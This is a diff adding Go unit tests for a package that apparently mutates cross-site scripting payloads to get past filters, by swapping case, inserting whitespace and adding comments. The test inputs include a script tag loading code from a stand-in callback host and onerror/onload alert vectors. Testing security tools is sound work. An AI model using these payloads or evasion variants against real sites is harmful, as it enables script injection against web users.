@@ -0,0 +1,64 @@
+package mutate
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestCaseSwap(t *testing.T) {
+	got := caseSwap(`<script src="https://CB.example/{{token}}"></script><img onerror=alert(1)>`)
+	want := `<sCrIpT src="https://CB.example/{{token}}"></sCrIpT><iMg oNeRrOr=alert(1)>`
+	if len(got) != 1 || got[0] != want {
+		t.Errorf("caseSwap = %q, want %q", got, want)
+	}
+}
+
+func TestWhitespace(t *testing.T) {
+	got := whitespace(`<img src=x onerror=alert(1)>`)
+	want := []string{"<img/src=x onerror=alert(1)>", "<img\tsrc=x onerror=alert(1)>", "<img\nsrc=x onerror=alert(1)>"}
+	if !slices.Equal(got, want) {
+		t.Errorf("whitespace = %q, want %q", got, want)
+	}
+	if got := whitespace(`javascript:alert(1)`); got != nil {
+		t.Errorf("whitespace = %q for a payload without tags, want none", got)
+	}
+}
+
+func TestRegisteredMutatorApplied(t *testing.T) {
+	Register("Test-Comment", func(payload string) []string {
+		return []string{strings.ReplaceAll(payload, "alert", "/**/alert"), payload}
+	})
+	t.Cleanup(func() {
+		mu.Lock()
+		delete(registry, "test-comment")
+		mu.Unlock()
+	})
+
+	if !slices.Contains(Names(), "test-comment") {
+		t.Errorf("Names = %q, want the registered mutator", Names())
+	}
+	names, err := Parse(" test-comment, CASE-SWAP ,")
+	if err != nil {
+		t.Fatalf("Parse: %v", err)
+	}
+	if !slices.Equal(names, []string{"test-comment", "case-swap"}) {
+		t.Errorf("Parse = %q", names)
+	}
+
+	// The payload comes first and duplicates of it or of other variants are dropped
+	got := Apply("<svg onload=alert(1)>", names)
+	want := []string{"<svg onload=alert(1)>", "<svg onload=/**/alert(1)>", "<sVg oNlOaD=alert(1)>"}
+	if !slices.Equal(got, want) {
+		t.Errorf("Apply = %q, want %q", got, want)
+	}
+}
+
+func TestParseUnknownMutator(t *testing.T) {
+	if _, err := Parse("case-swap,nope"); err == nil {
+		t.Error("unknown mutator accepted")
+	}
+	if names, err := Parse(""); err != nil || len(names) != 0 {
+		t.Errorf("Parse(\"\") = %q, %v, want no mutators", names, err)
+	}
+}